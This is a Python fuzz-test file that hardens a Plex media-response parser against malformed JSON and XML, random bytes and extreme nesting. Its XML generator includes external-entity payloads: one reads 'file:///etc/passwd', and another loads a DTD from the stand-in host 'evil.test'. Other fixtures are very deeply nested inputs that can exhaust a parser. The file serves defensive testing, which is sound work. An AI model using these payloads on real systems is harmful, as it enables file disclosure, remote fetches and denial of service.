"""parse_container, whatever the bytes: a container whose repr() works, or ParseError.

The default run keeps the example counts modest; ``PLEXKIT_FUZZ_EXAMPLES=30000 pytest
tests/hardening/test_hardening_parser_fuzz.py`` runs the long fuzz.
"""

from __future__ import annotations

import json
import os
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from plexkit import ParseError
from plexkit.models import parse_container

EXAMPLES = int(os.environ.get("PLEXKIT_FUZZ_EXAMPLES", "150"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


def parses_or_refuses(body: bytes | str, content_type: str | None = None) -> None:
    try:
        container = parse_container(body, content_type)
    except ParseError as exc:
        assert str(exc)
        return
    assert repr(container)
    for child in (*container.metadata, *container.directories, *container.hubs):
        assert repr(child)


NESTED = 500


@pytest.mark.parametrize(
    "body",
    [
        b'{"_elementType":{},"_children":[{"_elementType":"Directory"}]}',
        b'{"_elementType":[],"_children":[{"_elementType":"Video"}]}',
        (
            '<MediaContainer size="1">'
            + '<Video a="1">' * NESTED
            + "</Video>" * NESTED
            + "</MediaContainer>"
        ).encode(),
        b'{"MediaContainer":' + b'{"Metadata":[' * NESTED + b"{}" + b"]}" * NESTED + b"}",
        b"[" * 100_000 + b"]" * 100_000,
        b"<a>" * 50_000 + b"</a>" * 50_000,
    ],
    ids=[
        "legacy-dict-type",
        "legacy-list-type",
        "deep-xml",
        "deep-json",
        "deep-array",
        "deeper-xml",
    ],
)
def test_audit_inputs_give_a_container_or_parse_error(body: bytes) -> None:
    parses_or_refuses(body)


def test_bodies_nested_like_real_plex_still_parse() -> None:
    body = (
        b'{"MediaContainer":{"size":1,"Metadata":[{"ratingKey":"1","type":"movie","title":"A",'
        b'"Media":[{"id":1,"Part":[{"id":2,"Stream":[{"id":3,"streamType":1}]}]}]}]}}'
    )
    container = parse_container(body, "application/json")
    assert container.metadata[0].title == "A"


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(
                [
                    "MediaContainer",
                    "Metadata",
                    "Directory",
                    "Hub",
                    "Media",
                    "Part",
                    "size",
                    "ratingKey",
                    "type",
                    "title",
                    "_elementType",
                    "_children",
                    "Video",
                    "key",
                    "x",
                ]
            )
            | st.text(max_size=6),
            inner,
            max_size=5,
        )
    ),
    max_leaves=40,
)


@FUZZ
@given(st.binary(max_size=300))
def test_any_bytes(body: bytes) -> None:
    parses_or_refuses(body)


@FUZZ
@given(json_values)
def test_json_shapes_with_wrong_types(value: Any) -> None:
    parses_or_refuses(json.dumps(value).encode(), "application/json")
    parses_or_refuses(json.dumps({"MediaContainer": value}).encode(), "application/json")


tags = st.sampled_from(["MediaContainer", "Video", "Directory", "Hub", "Media", "Part", "Foo"])
attrs_ = st.dictionaries(
    st.sampled_from(["size", "ratingKey", "type", "title", "key", "duration", "x"]),
    st.text(alphabet="ab1-. <&\"'", max_size=5),
    max_size=3,
)


@st.composite
def xml_documents(draw: st.DrawFn) -> str:
    depth = draw(st.integers(min_value=0, max_value=120))
    tag_list = [draw(tags) for _ in range(min(depth, 6))] or ["MediaContainer"]
    opening = []
    for level in range(depth):
        tag = tag_list[level % len(tag_list)]
        attributes = " ".join(
            f'{k}="{v.replace("&", "&amp;").replace("<", "&lt;").replace(chr(34), "&quot;")}"'
            for k, v in draw(attrs_).items()
        )
        opening.append((tag, attributes))
    body = "".join(f"<{t} {a}>" for t, a in opening) + "".join(
        f"</{t}>" for t, _ in reversed(opening)
    )
    prolog = draw(
        st.sampled_from(
            [
                "",
                '<?xml version="1.0"?>',
                '<!DOCTYPE x [<!ENTITY e "boom">]>',
                '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
                '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.test/x">%p;]>',
            ]
        )
    )
    tail = draw(st.sampled_from(["", "&e;", "<", "</Video>", "\x00"]))
    return f'{prolog}<MediaContainer size="1">{body}{tail}</MediaContainer>'


@FUZZ
@given(xml_documents())
def test_xml_entities_dtds_and_deep_nesting(document: str) -> None:
    parses_or_refuses(document.encode(), "text/xml")
